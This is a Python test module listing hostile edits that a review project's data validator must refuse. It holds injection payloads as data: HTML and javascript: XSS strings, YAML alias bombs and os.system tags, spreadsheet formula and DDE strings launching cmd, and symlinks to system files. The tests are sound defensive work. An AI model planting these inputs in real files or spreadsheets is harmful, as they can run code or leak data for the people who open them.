"""The hostile corpus, round two (issue 25): every file under ``data/``, every field.

:data:`REFUSED` holds the measured reproducers and their neighbours: each is a copy of
``data/`` with one edit that ``python -m analysis validate`` must refuse with a line
containing the given ``file:...: rule`` text (exit 2, no traceback). :data:`FIELDS`
names, per data file, the fields the corpus puts hostile text into (refused here or
shown inert by the builds of ``tests/browser/test_hostile_site.py``); a test checks it
covers every file the schemas know and every field of each.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from tests.hostile.corpus import rows, write_rows

BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: the text after it reads reversed
ALIAS_BOMB = "\n".join(
    ["a: &a [x, x, x, x, x, x, x, x, x]"]
    + [
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    ]
)


def _text(name: str, edit: Callable[[str], str]) -> Callable[[Path], None]:
    def apply(data: Path) -> None:
        path = data / name
        path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")

    return apply


def _bytes(name: str, payload: bytes) -> Callable[[Path], None]:
    def apply(data: Path) -> None:
        (data / name).write_bytes(payload)

    return apply


def _cell(column: str, value: str, status: str = "verified") -> Callable[[Path], None]:
    def apply(data: Path) -> None:
        header, table = rows(data)
        next(r for r in table if r["status"] == status)[column] = value
        write_rows(data, header, table)

    return apply


def _certainty(reviewer: str = "A. Reviewer", rationale: str = "Wide interval") -> Callable:
    def apply(data: Path) -> None:
        out = io.StringIO(newline="")
        w = csv.writer(out, lineterminator="\n")
        w.writerow(["comparison", "disease", "domain", "rating", "rationale", "reviewer"])
        w.writerow(["placebo", "all", "imprecision", "not_serious", rationale, reviewer])
        (data / "certainty.csv").write_text(out.getvalue(), encoding="utf-8")

    return apply


def _sub(old: str, new: str, count: int = 1) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, count)

    return edit


def _symlink(name: str, target: str) -> Callable[[Path], None]:
    def apply(data: Path) -> None:
        (data / name).symlink_to(target)

    return apply


def _first_title(payload: str) -> Callable[[str], str]:
    """Replace the title of the first trial entry (Hughes2008_ICE, cited on every page)."""
    start = "  title     = {Intravenous immune globulin (10\\% caprylate"
    return lambda text: text.replace(start, "  title     = {" + payload + " " + start[15:], 1)


PUB = "data/published.yaml"
SEARCH = "data/search.yaml"

#: name -> (edit of a copy of data/, a text every expected line contains). The copy is at
#: ``<tmp>/data`` so problems name ``data/FILE`` relative to ``<tmp>``.
REFUSED: dict[str, tuple[Callable[[Path], None], str]] = {
    # 1. published.yaml
    "published_measure_markup": (
        _text("published.yaml", _sub("measure: RR", "measure: RR<img src=x onerror=alert(1)>")),
        ":[1].measure: must be one of RR, OR, RD (RR<img src=x onerror=alert(1)>)",
    ),
    "published_invalid_yaml": (
        _text("published.yaml", _sub("  measure: RR\n", "  measure: [RR\n")),
        "published.yaml:13:-: not valid YAML",
    ),
    "published_estimate_not_a_number": (
        _text("published.yaml", _sub("estimate: 2.40", "estimate: two")),
        ":[1].estimate: must be a finite number (two)",
    ),
    "published_estimate_outside_its_interval": (
        _text("published.yaml", _sub("estimate: 2.40", "estimate: 9.40")),
        ":[1].estimate: must lie within its interval",
    ),
    "published_nan": (
        _text("published.yaml", _sub("ci_high: 3.36", "ci_high: .nan")),
        ":[1].ci_high: must be a finite number (nan)",
    ),
    "published_alias_bomb": (
        _text("published.yaml", lambda t: ALIAS_BOMB + "\n"),
        "published.yaml:1:-: anchors (&name) are not allowed (a)",
    ),
    "published_unknown_comparison": (
        _text("published.yaml", _sub("comparison: placebo", "comparison: vaccine")),
        ":[1].comparison: must be one of placebo, plasma_exchange, corticosteroid, all (vaccine)",
    ),
    "published_unknown_key": (
        _text("published.yaml", _sub("  measure: RR\n", "  measure: RR\n  html: <b>x</b>\n")),
        ":[1].html: unknown key",
    ),
    "published_tag": (
        _text("published.yaml", _sub("estimate: 2.40", "estimate: !!float 2.40")),
        "published.yaml:13:-: tags (!name, !!type) are not allowed",
    ),
    "published_duplicate_key": (
        _text("published.yaml", _sub("  measure: RR\n", "  measure: RR\n  measure: OR\n")),
        "published.yaml:13:[1].measure: duplicate key: first on line 12",
    ),
    "published_bidi": (
        _text("published.yaml", _sub("improvement in disability", f"improvement {BIDI}in")),
        ":[1].outcome: invisible format character U+202E",
    ),
    "published_two_source_reviews": (
        _text("published.yaml", _sub("comparison: placebo", "comparison: all")),
        "exactly one entry must be the source review",
    ),
    "published_outcome_type_unknown": (
        _text("published.yaml", _sub("outcome_type: improvement", "outcome_type: x<y")),
        ":[1].outcome_type: must be one of",
    ),
    "published_disease_unknown": (
        _text("published.yaml", _sub("disease: cidp", "disease: gout")),
        ":[1].disease: must be a disease code",
    ),
    "published_digits_huge": (
        _text("published.yaml", _sub("digits: 3", "digits: 300")),
        ":[4].digits: must be a whole number from 0 to 4 (300)",
    ),
    "published_trials_text": (
        _text("published.yaml", _sub("trials: 5", "trials: five")),
        ":[1].trials: must be a whole number",
    ),
    "published_participants_negative": (
        _text("published.yaml", _sub("participants: 235", "participants: -235")),
        ":[1].participants: must be a whole number",
    ),
    "published_participants_word": (
        _text("published.yaml", _sub("participants_word: patients", "participants_word: <b>")),
        ":[3].participants_word: must be one of",
    ),
    "published_result_note_multiline": (
        _text("published.yaml", _sub("result_note: single", "result_note: |\n    a\n    b\n   ")),
        ":[7].result_note: must be one line",
    ),
    "published_result_too_long": (
        _text("published.yaml", _sub("result: MD 0.02", "result: " + "x" * 400)),
        ":[6].result: longer than 300 characters",
    ),
    "published_population_missing": (
        _text("published.yaml", _sub("  population: CIDP\n", "", 1)),
        ":[1].population: required",
    ),
    "published_source_a_list": (
        _text("published.yaml", _sub("  source: van Schaik", "  source:\n    - van Schaik")),
        ":[2].source: must be text",
    ),
    "published_not_utf8": (
        _bytes("published.yaml", b"- comparison: all\n  source: M\xfcller\n"),
        "published.yaml:2:-: not UTF-8 text",
    ),
    # 2. references.bib
    "bib_href_javascript": (
        _text("references.bib", _first_title("\\href{javascript:alert(1)}{click}")),
        ":Hughes2008_ICE.title: LaTeX command \\href is not allowed",
    ),
    "bib_includegraphics": (
        _text("references.bib", _first_title("\\includegraphics{https://e.org/t.png}")),
        ":Hughes2008_ICE.title: LaTeX command \\includegraphics is not allowed",
    ),
    "bib_url_javascript": (
        _text("references.bib", _sub("  pmid      = {18178525}", "  url = {javascript:alert(1)}")),
        ":Hughes2008_ICE.url: url must be one http:// or https:// address",
    ),
    "bib_string_macro": (
        _text("references.bib", lambda t: "@string{x = {\\href{javascript:alert(1)}{y}}}\n" + t),
        "references.bib:1:-: @string blocks are not allowed",
    ),
    "bib_math": (
        _text("references.bib", _first_title("$\\alpha$")),
        "LaTeX command \\alpha is not allowed",
    ),
    "bib_bidi": (
        _text("references.bib", _first_title(BIDI + "reversed")),
        ":Hughes2008_ICE.title: invisible format character U+202E",
    ),
    # 3 (reviewer). certainty.csv
    "certainty_unnamed_reviewer": (
        _certainty(),
        "certainty.csv:2:reviewer: review-metadata.yml names no author yet, so no judgement",
    ),
    "certainty_formula": (
        _certainty(rationale='=HYPERLINK("https://e.org","x")'),
        "certainty.csv:2:rationale: starts with '=': a spreadsheet would run it as a formula",
    ),
    "certainty_bidi": (
        _certainty(rationale="wide " + BIDI + "interval"),
        "certainty.csv:2:rationale: invisible format character U+202E",
    ),
    # 5. links under data/
    "symlink_loop": (
        _symlink("loop", ".."),
        "data/loop:-:-: a symbolic link: data/ holds regular files only",
    ),
    "symlink_root": (
        _symlink("disk", "/"),
        "data/disk:-:-: a symbolic link",
    ),
    "symlink_replacing_a_file": (
        lambda d: (
            (d / "published.yaml").unlink(),
            (d / "published.yaml").symlink_to("/etc/hostname"),
        ),
        "data/published.yaml:-:-: a symbolic link",
    ),
    "unknown_file": (
        _bytes("notes.md", b"# notes\n"),
        "data/notes.md:-:-: not a file the project knows",
    ),
    "folder": (
        lambda d: (d / "extra").mkdir(),
        "data/extra:-:-: a folder",
    ),
    # 6. spreadsheet formulas in studies.csv
    "studies_formula_hyperlink": (
        _cell("source_quote", '=HYPERLINK("https://e.org/?"&A1,"see")'),
        ":source_quote: starts with '=': a spreadsheet would run it as a formula",
    ),
    "studies_formula_dde": (
        _cell("notes", "+cmd|' /C calc'!A0", status="pending"),
        ":notes: starts with '+'",
    ),
    "studies_formula_minus": (
        _cell("author", "-2+3+cmd|' /C calc'!A0"),
        ":author: starts with '-'",
    ),
    "studies_formula_at": (_cell("population", "@SUM(1+1)*cmd"), ":population: starts with '@'"),
    "studies_formula_tab": (
        _cell("outcome_definition", "\t=1+1"),
        ":outcome_definition: starts with a tab",
    ),
    # 7. search.yaml
    "search_impossible_date": (
        _text("search.yaml", _sub("last_searched: 2026-11-30", "last_searched: 2026-02-30")),
        ":last_searched: not a day of the calendar (2026-02-30)",
    ),
    "search_future_date": (
        _text("search.yaml", _sub("last_searched: 2026-11-30", "last_searched: 2999-01-01")),
        ":last_searched: in the future",
    ),
    "search_not_utf8": (
        _bytes("search.yaml", b"access: M\xfcller\n"),
        "search.yaml:1:-: not UTF-8 text",
    ),
    "search_alias_bomb": (
        _text("search.yaml", lambda t: t + "\n" + ALIAS_BOMB.replace("a:", "zz:", 1) + "\n"),
        ":-: anchors (&name) are not allowed",
    ),
    "search_duplicate_key": (
        _text("search.yaml", lambda t: t + "last_searched: 2026-12-01\n"),
        ":last_searched: duplicate key: first on line",
    ),
    "search_python_tag": (
        _text("search.yaml", _sub("access: >-", "access: !!python/object:os.system >-")),
        ":-: tags (!name, !!type) are not allowed",
    ),
    # the files of the protocol (issue 20) and of surveillance: the same reader and text rules
    "protocol_bidi": (
        _text("protocol.yaml", _sub("title: The review's protocol", f"title: The {BIDI}protocol")),
        "protocol.yaml:7:title: invisible format character U+202E",
    ),
    "protocol_alias": (
        _text("protocol.yaml", _sub("comparators: [placebo", "comparators: &c [placebo")),
        "protocol.yaml:14:-: anchors (&name) are not allowed (c)",
    ),
    "outcomes_formula": (
        _text("outcomes.csv", _sub(",serious adverse events (", ",=serious adverse events (")),
        ":definition: starts with '='",
    ),
    "surveillance_duplicate_key": (
        _text("surveillance.yaml", lambda t: t + "frequency: hourly\n"),
        ":frequency: duplicate key: first on line",
    ),
    "integrity_tag": (
        _text("integrity.yaml", _sub("decisions: []", "decisions: !!python/name:os.system []")),
        ":-: tags (!name, !!type) are not allowed",
    ),
    # 8. bidi controls
    "studies_bidi": (
        _cell("author", "Hughes" + BIDI + "evil"),
        ":author: invisible format character U+202E (RIGHT-TO-LEFT OVERRIDE)",
    ),
    "studies_zero_width": (
        _cell("notes", "a\u200bb", status="pending"),
        ":notes: invisible format character U+200B",
    ),
    "search_bidi": (
        _text("search.yaml", _sub("intervention: intravenous", f"intervention: {BIDI}intravenous")),
        ":eligibility.intervention: invisible format character U+202E",
    ),
}

#: data file -> the fields the corpus makes hostile (refused above, or shown inert by the
#: built corpus); ``*`` = the whole file (its syntax, links, bytes).
FIELDS: dict[str, set[str]] = {
    "studies.csv": {
        "author",
        "notes",
        "population",
        "outcome_definition",
        "source_quote",
        "timepoint",
    },
    "datapackage.json": {"description", "constraints"},
    "references.bib": {"title", "url", "@string", "doi"},
    "search.yaml": {"last_searched", "eligibility", "access", "*"},
    "certainty.csv": {"rationale", "reviewer"},
    "protocol.yaml": {"title", "comparators", "*"},
    "outcomes.csv": {"definition"},
    "surveillance.yaml": {"frequency", "*"},
    "integrity.yaml": {"decisions", "*"},
    "README.md": {"*"},  # read by no code and never published: only the folder rules apply
    "published.yaml": {
        "comparison",
        "population",
        "disease",
        "outcome_type",
        "outcome",
        "measure",
        "estimate",
        "ci_low",
        "ci_high",
        "digits",
        "trials",
        "participants",
        "participants_word",
        "source",
        "result",
        "result_note",
    },
}
